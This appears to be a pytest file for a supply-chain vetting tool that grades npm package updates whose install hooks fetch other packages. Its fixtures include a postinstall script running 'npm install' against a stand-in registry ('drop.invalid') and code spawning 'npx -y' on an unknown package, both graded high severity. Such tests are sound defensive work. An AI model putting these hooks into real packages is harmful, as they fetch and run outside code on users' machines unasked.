"""A package that an installer fetches: one that the manifest declares, and others."""

from pathlib import Path

import pytest
from package_lab import npm

from beartrap.model.finding import Severity
from beartrap.vet.examine import examine
from beartrap.vet.talk import Order

INSTALLS = """\
const { execSync } = require("child_process");
const name = "@tool/" + process.platform + "-" + process.arch;
execSync(`npm install --loglevel=error %s`);
"""


@pytest.mark.parametrize(
    ("asks", "wanted"),
    [
        ("${name}@1.0.1", Severity.LOW),
        ("@tool/linux-x64@1.0.1", Severity.LOW),
        ("@other/${process.arch}@1.0.1", Severity.MEDIUM),
        ("@tool/linux-x64@1.0.1 --registry=https://drop.invalid", Severity.HIGH),
        ("@tool/linux-x64@1.0.1 elsewhere", Severity.MEDIUM),
    ],
)
def test_what_is_declared_is_not_foreign(tmp_path: Path, asks: str, wanted: Severity) -> None:
    hook = {"postinstall": "node install.js"}
    files = {"index.js": "1", "install.js": "module.exports = 1;\n"}
    old = npm(tmp_path, "tool", "1.0.0", files, scripts=hook)
    held = {"@tool/linux-x64": "1.0.1", "@tool/darwin-arm64": "1.0.1"}
    files = {**files, "install.js": INSTALLS % asks}
    new = npm(tmp_path, "tool", "1.0.1", files, scripts=hook, optionalDependencies=held)
    found = examine(Order(bytes(new), "new", bytes(old), "old")).found
    assert [one.severity for one in found if one.id == "package.foreign"] == [wanted]


@pytest.mark.parametrize(
    ("name", "wanted"),
    [("trace-lines-agent@latest", Severity.HIGH), ("prettier@3", Severity.LOW), ("tool@latest", Severity.LOW)],
)
def test_what_all_use_may_be_run_by_its_name(tmp_path: Path, name: str, wanted: Severity) -> None:
    old = npm(tmp_path, "tool", "1.0.0", {"index.js": "exports.run = (file) => file;\n"})
    runs = f"exports.run = (file) => require('child_process').spawn('npx', ['-y', '{name}', file]);\n"
    new = npm(tmp_path, "tool", "1.0.1", {"index.js": runs})
    found = examine(Order(bytes(new), "new", bytes(old), "old")).found
    assert [one.severity for one in found if one.id == "package.foreign"] == [wanted]
